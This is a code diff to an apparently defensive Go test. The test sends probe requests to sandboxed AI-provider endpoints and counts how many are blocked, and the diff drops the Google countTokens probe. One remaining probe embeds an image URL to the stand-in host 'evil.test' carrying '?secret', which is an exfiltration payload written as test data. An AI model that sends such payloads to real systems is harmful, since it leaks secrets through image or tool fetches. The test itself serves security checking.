@@ -131,12 +131,11 @@ func askKeeper(page string, answer map[string]int) error {
 	answer["page"], _ = strconv.Atoi(strings.TrimSpace(string(fetched.Bytes)))
 	answer["done"] = 0
 	for path, body := range map[string]string{
-		"/anthropic/v1/messages":          `{"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
-		"/openai/v1/chat/completions":     `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/?secret"}}]}]}`,
-		"/google/v1/models/x:countTokens": `{}`,
-		"/configuration":                  `{}`,
-		"/model":                          `{"conversation":"c","request":{}}`,
-		"/fetch":                          `{"conversation":"c"`,
+		"/anthropic/v1/messages":      `{"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
+		"/openai/v1/chat/completions": `{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.test/?secret"}}]}]}`,
+		"/configuration":              `{}`,
+		"/model":                      `{"conversation":"c","request":{}}`,
+		"/fetch":                      `{"conversation":"c"`,
 	} {
 		if status, err := tell("http://"+sandbox.Address+path, body, nil); err != nil || status < 400 {
 			answer["done"]++
